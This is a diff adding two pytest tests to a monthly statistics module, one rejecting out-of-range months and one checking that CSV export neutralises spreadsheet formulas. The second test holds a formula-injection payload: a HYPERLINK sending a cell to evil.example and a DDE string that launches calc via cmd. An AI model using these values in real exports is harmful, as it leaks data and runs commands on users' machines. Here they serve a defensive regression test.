@@ -121,3 +121,26 @@ def test_table_and_csv(month, tmp_path):
     with open(path, encoding="utf-8-sig", newline="") as f:
         rows = {(r["Section"], r["Key"]): r for r in csv.DictReader(f)}
     assert rows[("Checks", "total")]["Value"] == "6"
+
+
+@pytest.mark.parametrize("far", ["9999-12", "0001-01"])
+def test_a_far_month_is_refused_as_input_not_called_damage(month, far):
+    """9999-12 ended in the year 10000, and the command line called an intact file damaged and
+    told IT to restore a backup (break attempt 18)."""
+    with pytest.raises(UserError, match="超出可查询的范围"):
+        stats.monthly(month, far)
+
+
+def test_a_csv_cell_a_spreadsheet_would_evaluate_is_written_as_text(month, tmp_path):
+    """Measure ids and contents come from the platform: one starting with = or @ was a live
+    formula (a link carrying the neighbouring cells away) in the hall's spreadsheet."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"措施依据")'
+    s = replace(stats.monthly(month, "2026-11"),
+                measures_applied={"@SUM(1+1)*cmd|' /C calc'!A0": (formula, 1)})
+    path = stats.write_csv(s, tmp_path / "month.csv")
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    [row] = [r for r in rows if "HYPERLINK" in r[5]]
+    assert row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row[5] == "'" + formula
+    assert row[6] == "1"
+    assert not [c for r in rows for c in r if c and c[0] in "=+-@"]
